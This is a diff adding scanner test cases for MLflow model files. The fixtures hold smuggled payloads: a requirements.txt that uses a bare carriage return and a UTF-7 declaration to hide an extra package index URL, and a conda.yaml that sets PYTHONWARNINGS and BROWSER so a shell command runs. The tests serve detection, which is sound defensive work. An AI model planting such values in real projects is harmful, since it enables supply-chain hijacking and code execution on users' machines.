@@ -92,3 +92,28 @@ def test_82s_pip_coding_matches_pip_s_rule() -> None:
     assert mlmodel.pip_coding("numpy\n# coding: utf-16\n") is not None  # the second line counts
     assert mlmodel.pip_coding("numpy\nscipy\n# coding: utf-7\n") is None  # the third does not
     assert mlmodel.pip_coding("# coding: no-such-codec\n") is not None
+
+
+# --- red team 83s-2, 83s-3 (proofs: /work/redteam-83s/f2_mlflow_model, f3_mlflow_model) -------------
+
+def test_83s2_a_coding_line_pip_finds_after_a_bare_cr_is_suspicious(tmp_path: Path) -> None:
+    """pip splits on ``\\n`` only: ``numpy\\r\\r# -*- coding: utf-7 -*-`` is its first line and the
+    declaration in its second; ``str.splitlines`` made it the third."""
+    text = "numpy==2.0\r\r# -*- coding: utf-7 -*-\n# +AAo---extra-index-url http://127.0.0.1:8783/simple/\n"
+    assert mlmodel.pip_coding(text) is not None
+    r = _model(tmp_path, {"requirements.txt": text})
+    assert r.verdict == "suspicious", r.findings
+
+
+def test_83s2_pip_reads_a_declaration_only_in_a_comment_and_after_no_bom(tmp_path: Path) -> None:
+    assert mlmodel.pip_coding("numpy  # coding: utf-7\n") is None  # not a comment line: pip ignores it
+    assert mlmodel.pip_coding("\ufeff# coding: utf-7\nnumpy\n") is None  # the BOM decides (UTF-8)
+    r = _model(tmp_path, {"requirements.txt": b"\xef\xbb\xbf# coding: utf-7\nnumpy==2.0\n"})
+    assert r.verdict == "safe", r.findings
+
+
+def test_83s3_conda_variables_are_suspicious(tmp_path: Path) -> None:
+    conda = ("channels: [conda-forge]\ndependencies: [python=3.11]\n"
+             "variables:\n  PYTHONWARNINGS: 'ignore::antigravity.x'\n  BROWSER: \"sh -c 'touch /tmp/x' #%s\"\n")
+    r = _model(tmp_path, {"conda.yaml": conda}, CONDA)
+    assert r.verdict == "suspicious" and any("PYTHONWARNINGS" in f.message for f in r.findings), r.findings
